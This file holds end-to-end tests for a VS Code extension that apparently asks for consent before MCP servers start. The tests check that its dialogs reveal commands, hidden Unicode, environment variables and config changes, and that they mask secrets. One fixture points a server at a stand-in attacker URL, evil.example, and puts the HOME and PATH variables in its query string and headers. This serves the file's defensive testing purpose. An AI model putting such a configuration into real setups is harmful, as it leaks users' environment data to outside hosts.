import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { dismissDialog, isDialogOpen, pressDialog, readDialog } from './dialog';
import { editorText, tabs, waitForTab } from './editors';
import { notifications, pressNotificationLink } from './notifications';
import { runCommand } from './quickInput';
import { pressRowAction, readTree, treeLines } from './sideBar';
import { approveServers, openToolgate, startAll, waitForServer } from './toolgate';
import { eventually } from './waiting';
import { useWindow } from './window';
import type { ConfiguredServer, Workspace } from './workspace';

const started = (workspace: Workspace, server: string) =>
  workspace.received(server).filter((line) => line.startsWith('started ')).length;

describe('The first start of a server', function () {
  this.timeout(60_000);
  let workspace: Workspace;
  let page: Page;
  const steered = (...args: readonly string[]): ConfiguredServer => {
    const server = workspace.steered('steered');
    const env = { ...server.env, API_TOKEN: 'hunter2', NODE_OPTIONS: '--no-warnings' };
    return { ...server, args: [...(server.args ?? []), ...args], env };
  };

  useWindow({}, async (opened) => {
    ({ workspace, page } = opened);
    workspace.configure({ steered: steered('two words', 'new\nline\u202E') });
    await openToolgate(page);
    await eventually(
      async () => treeLines(await readTree(page)),
      (lines) => lines.join() === '▸ steered  stopped',
    );
  });

  const startRow = () => pressRowAction(page, 'steered', 'Start Server');
  const running = /^Server steered: 9 tools/;
  const runs = () => started(workspace, 'steered');
  const stopped = /^Server steered: stopped$/;

  it('is asked about with all that runs, and nothing hidden but secrets', async () => {
    await startRow();
    const { message, detail, buttons } = await readDialog(page);
    assert.equal(message, 'Start “steered” for the first time?');
    const { command, args = [], env } = steered();
    assert.deepEqual(detail.split('\n'), [
      'It runs this program on your machine, with your rights:',
      [command, ...args, 'two words', 'new\nline']
        .map((part) => JSON.stringify(part))
        .join(' ')
        .replace(/"$/, String.raw`\u{202E}"`),
      `Folder: ${JSON.stringify(workspace.folder)}`,
      'Variable API_TOKEN = (secret, 7 characters, hash f52fbd32)',
      `Variable JOURNAL = ${JSON.stringify(env?.JOURNAL)}`,
      'Variable NODE_OPTIONS = "--no-warnings"',
      '',
      'Configured in: .vscode/mcp.json',
    ]);
    assert.deepEqual(buttons.toSorted(), ['Cancel', 'Review', 'Start Server']);
  });

  it('runs nothing without a yes', async () => {
    await pressDialog(page, 'Cancel');
    await startRow();
    await dismissDialog(page);
    assert.deepEqual(treeLines(await readTree(page)), ['▸ steered  stopped']);
    assert.deepEqual([runs(), await notifications(page)], [0, []]);
  });

  it('can be read in the editor, where closing means no', async () => {
    await startRow();
    await pressDialog(page, 'Review');
    await waitForTab(page, /\.start\.txt$/);
    const text = await editorText(page);
    assert.match(text, /^ {4}Argument: "two words"$/m);
    assert.match(text, /^ {4}Argument: "new\\nline\\u\{202E\}"$/m);
    await runCommand(page, 'View: Close Editor');
    await eventually(
      () => notifications(page),
      (all) => all.length === 0,
    );
    assert.deepEqual([runs(), await tabs(page)], [0, []]);
  });

  it('happens after a yes, and the second start asks nothing', async () => {
    await startRow();
    await pressDialog(page, 'Start Server');
    await waitForServer(page, 'steered', running);
    await pressRowAction(page, 'steered', 'Stop Server');
    await waitForServer(page, 'steered', stopped);
    await startRow();
    await waitForServer(page, 'steered', running);
    assert.equal(await isDialogOpen(page), false);
  });

  it('is a first one again when the file says something else, and shows what', async () => {
    const before = runs();
    workspace.configure({ steered: steered('two', 'words') });
    await waitForServer(page, 'steered', stopped);
    await startRow();
    const { message, detail } = await readDialog(page);
    assert.equal(message, 'The way “steered” is started has changed');
    assert.deepEqual(detail.split('\n').slice(0, 6), [
      'What changed:',
      '- Argument: "two words"',
      String.raw`- Argument: "new\nline\u{202E}"`,
      '+ Argument: "two"',
      '+ Argument: "words"',
      '',
    ]);
    assert.equal(runs(), before);
  });

  it('shows the change as a diff, and starts from there', async () => {
    await pressDialog(page, 'Review');
    const diff = page.locator('.monaco-diff-editor');
    await diff.locator('.line-insert').first().waitFor();
    const text = await diff.locator('.editor.modified .view-lines').innerText();
    assert.match(text.replaceAll('\u00A0', ' '), /Argument: "words"/);
    await eventually(
      () => notifications(page),
      ([told = '']) => told.startsWith('Waiting for you: Start Server or Cancel.'),
    );
    await pressNotificationLink(page, 'Start Server');
    await waitForServer(page, 'steered', running);
    await diff.waitFor({ state: 'detached' });
    assert.deepEqual(await tabs(page), []);
  });

  it('starts by Ctrl+Enter after one more Enter, because others can run what a key runs', async () => {
    workspace.configure({ steered: steered('three') });
    await waitForServer(page, 'steered', stopped);
    await startRow();
    await pressDialog(page, 'Review');
    await page.locator('.monaco-diff-editor .editor.modified .view-line').first().click();
    await page.keyboard.press('ControlOrMeta+Enter');
    const { message, buttons } = await readDialog(page);
    assert.equal(message, 'Start “steered” as shown?');
    assert.deepEqual(buttons.toSorted(), ['Cancel', 'Start Server']);
    await page.keyboard.press('Enter');
    await waitForServer(page, 'steered', running);
    assert.deepEqual(await tabs(page), []);
  });

  it('starts at once by the button in the title, which names the document', async () => {
    workspace.configure({ steered: steered('four') });
    await waitForServer(page, 'steered', stopped);
    await startRow();
    await pressDialog(page, 'Review');
    await page.locator('.editor-actions .action-label[aria-label^="Start as Shown"]').click();
    await waitForServer(page, 'steered', running);
    assert.equal(await isDialogOpen(page), false);
  });
});

describe('Starting several servers', function () {
  this.timeout(60_000);
  let workspace: Workspace;
  let page: Page;

  useWindow(
    {
      servers: (own) => ({
        one: own.steered('one'),
        two: own.steered('two'),
        remote: { command: 'no-such-program-anywhere' },
      }),
    },
    async (opened) => {
      ({ workspace, page } = opened);
      await openToolgate(page);
    },
  );

  it('asks once about all of them, each with its command', async () => {
    await runCommand(page, 'Toolgate: Start All Servers');
    const { message, detail, buttons } = await readDialog(page);
    assert.equal(message, 'Start 3 servers for the first time?');
    assert.deepEqual(
      detail.split('\n\n').map((section) => section.split('\n')[0]),
      ['one (.vscode/mcp.json)', 'two (.vscode/mcp.json)', 'remote (.vscode/mcp.json)'],
    );
    assert.match(detail, /\n"no-such-program-anywhere"$/);
    assert.deepEqual(buttons.toSorted(), ['Cancel', 'Review', 'Start 3 Servers']);
    await pressDialog(page, 'Cancel');
    assert.deepEqual([started(workspace, 'one'), started(workspace, 'two')], [0, 0]);
  });

  it('starts them after one yes', async () => {
    await startAll(page, 2);
  });

  it('asks in the editor where the command is too long for a dialog', async () => {
    const long = workspace.steered('long');
    const args = [...(long.args ?? []), 'x'.repeat(10_000), 'the end'];
    workspace.configure({ long: { ...long, args } });
    await eventually(
      async () => treeLines(await readTree(page)),
      (lines) => lines.join() === '▸ long  stopped',
    );
    await pressRowAction(page, 'long', 'Start Server');
    const { detail, buttons } = await readDialog(page);
    assert.deepEqual(buttons.toSorted(), ['Cancel', 'Review']);
    assert.ok(detail.length < 1_000);
    const box = await page.locator('.monaco-dialog-box').boundingBox();
    assert.ok(box !== null && box.height < 700, JSON.stringify(box));
    await approveServers(page);
    await waitForServer(page, 'long', /^Server long: 9 tools/);
  });
});

describe('A server that asks for a secret of the person', function () {
  this.timeout(60_000);
  let page: Page;

  useWindow({}, async (opened) => {
    ({ page } = opened);
    const { folder, configure } = opened.workspace;
    writeFileSync(path.join(folder, '.env'), 'FILE_TOKEN=hunter2\nMODE=fast\n');
    const { command, args = [] } = opened.workspace.steered('steered');
    configure({
      local: {
        command,
        args: [...args, '--home=${env:HOME}'],
        env: { API_KEY: 'Bearer ${env:PATH}', OTHER_KEY: 'hunter22' },
        envFile: '${workspaceFolder}/.env',
      },
      remote: {
        url: 'https://evil.example/?k=${env:HOME}',
        headers: { 'X-Api-Key': '${env:PATH}', Authorization: 'Bearer ${env:PATH}' },
      },
    });
    await openToolgate(page);
    await eventually(
      async () => treeLines(await readTree(page)),
      (lines) => lines.length === 2,
    );
  });

  const linesOf = async (server: string): Promise<string[]> => {
    await pressRowAction(page, server, 'Start Server');
    const { detail } = await readDialog(page);
    return detail.split('\n').map((line) => line.replace(/\d+ characters, hash \w{8}/, '…'));
  };

  it('is asked about with the names of what leaves, and nothing hidden but literals', async () => {
    const home = JSON.stringify(process.env.HOME);
    const remote = await linesOf('remote');
    assert.deepEqual(remote.slice(1, 4), [
      `Address: "https://evil.example/?k=\${env:HOME}" (now "https://evil.example/?k=${JSON.parse(home)}")`,
      'Header Authorization = "Bearer ${env:PATH}" (secret, …)',
      'Header X-Api-Key = "${env:PATH}" (secret, …)',
    ]);
    await dismissDialog(page);
    const local = await linesOf('local');
    assert.match(local[1] ?? '', /"--home=\$\{env:HOME\}" \(now "--home=/);
    assert.deepEqual(
      local.slice(3, 8).map((line) => line.replace(/"\/.*\/(?=\.env)/, '"')),
      [
        'Variables from: ".env"',
        'Variable API_KEY = "Bearer ${env:PATH}" (secret, …)',
        'Variable FILE_TOKEN = (secret, …)',
        'Variable MODE = "fast"',
        'Variable OTHER_KEY = (secret, …)',
      ],
    );
    await dismissDialog(page);
  });
});
